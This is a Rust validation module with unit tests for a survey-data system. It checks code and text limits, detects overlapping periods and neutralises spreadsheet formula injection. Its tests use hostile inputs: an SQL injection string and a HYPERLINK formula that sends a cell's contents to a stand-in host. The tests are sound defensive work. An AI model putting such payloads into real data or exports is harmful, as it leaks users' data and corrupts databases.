//! The contract's rules for every write, whoever makes it (import, form, API): codes,
//! texts, overlapping survey periods. Pure functions; each says in a sentence what is wrong.
use super::period::Period;
use std::borrow::Cow;

/// The longest code: ASCII letters, digits, `.`, `_` and `-`.
pub const CODE_MAX: usize = 32;
/// Names, kinds, categories.
pub const TEXT_MAX: usize = 500;
/// A model's description.
pub const DESCRIPTION_MAX: usize = 5_000;

/// What a spreadsheet reads as the start of a formula.
const FORMULA_LEADS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

pub fn check_code(code: &str) -> Result<(), String> {
    if code.chars().count() > CODE_MAX {
        return Err(format!("a code has at most {CODE_MAX} characters, got {}", code.chars().count()));
    }
    match code.chars().find(|c| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))) {
        Some(c) => Err(format!("`{c}` may not be in a code (ASCII letters, digits, `.`, `_` and `-` only)")),
        None => Ok(()),
    }
}

/// A text cell: at most `max` characters, and never what a spreadsheet would run.
pub fn check_text(text: &str, max: usize) -> Result<(), String> {
    let n = text.chars().count();
    if n > max {
        return Err(format!("at most {max} characters, got {n}"));
    }
    match text.chars().next() {
        Some(c) if FORMULA_LEADS.contains(&c) => Err(format!(
            "must not begin with {}: a spreadsheet would run it as a formula",
            match c {
                '\t' => "a tab".to_string(),
                '\r' => "a carriage return".to_string(),
                c => format!("`{c}`"),
            }
        )),
        _ => Ok(()),
    }
}

/// Two different survey periods that share days: a unit reporting both `2024-04` and
/// `2024-Q2` for one model would count April's ballots twice in the year.
pub fn periods_overlap(a: Period, b: Period) -> bool {
    a != b && a.first_day() <= b.last_day() && b.first_day() <= a.last_day()
}

/// A cell made safe for a spreadsheet: text that a spreadsheet would run as a formula gets
/// a leading `'`, which spreadsheets show as text. Plain numbers (`-8.00`) and everything
/// else stay as they are.
pub fn neutralise_formula(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some(c) if FORMULA_LEADS.contains(&c) && cell.parse::<f64>().is_err() => Cow::Owned(format!("'{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn codes_are_short_and_plain() {
        assert_eq!(check_code("402-01"), Ok(()));
        assert_eq!(check_code("D1.a_b"), Ok(()));
        assert_eq!(check_code(&"A".repeat(32)), Ok(()));
        assert_eq!(check_code(&"A".repeat(33)), Err("a code has at most 32 characters, got 33".into()));
        assert_eq!(
            check_code("Xã 1"),
            Err("`ã` may not be in a code (ASCII letters, digits, `.`, `_` and `-` only)".into())
        );
        assert!(check_code("a'; DROP TABLE units;--").is_err());
    }

    #[test]
    fn texts_never_start_a_formula() {
        assert_eq!(check_text("Như Xuân", TEXT_MAX), Ok(()));
        assert_eq!(check_text("a=b", TEXT_MAX), Ok(()));
        for (text, lead) in [
            ("=HYPERLINK(\"http://x.example/?\"&B2,\"Xem\")", "`=`"),
            ("+1", "`+`"),
            ("-2", "`-`"),
            ("@SUM(A1)", "`@`"),
            ("\tx", "a tab"),
            ("\rx", "a carriage return"),
        ] {
            assert_eq!(
                check_text(text, TEXT_MAX),
                Err(format!("must not begin with {lead}: a spreadsheet would run it as a formula"))
            );
        }
        assert_eq!(check_text(&"ă".repeat(501), TEXT_MAX), Err("at most 500 characters, got 501".into()));
        assert_eq!(check_text(&"ă".repeat(5000), DESCRIPTION_MAX), Ok(()));
    }

    #[test]
    fn overlapping_periods() {
        let p = |s: &str| s.parse::<Period>().unwrap();
        assert!(periods_overlap(p("2024-04"), p("2024-Q2")));
        assert!(periods_overlap(p("2024-Q2"), p("2024-06")));
        assert!(!periods_overlap(p("2024-03"), p("2024-Q2")));
        assert!(!periods_overlap(p("2024-Q2"), p("2024-Q2")), "the same key is an update, not an overlap");
        assert!(!periods_overlap(p("2024-Q1"), p("2024-Q2")));
    }

    #[test]
    fn stored_formulas_are_neutralised_on_the_way_out() {
        assert_eq!(neutralise_formula("=HYPERLINK(\"x\")"), "'=HYPERLINK(\"x\")");
        assert_eq!(neutralise_formula("@x"), "'@x");
        assert_eq!(neutralise_formula("Như Xuân"), "Như Xuân");
        assert_eq!(neutralise_formula(""), "");
        assert_eq!(neutralise_formula("-8.00"), "-8.00", "a negative change stays a number");
        assert_eq!(neutralise_formula("-A1"), "'-A1");
    }
}
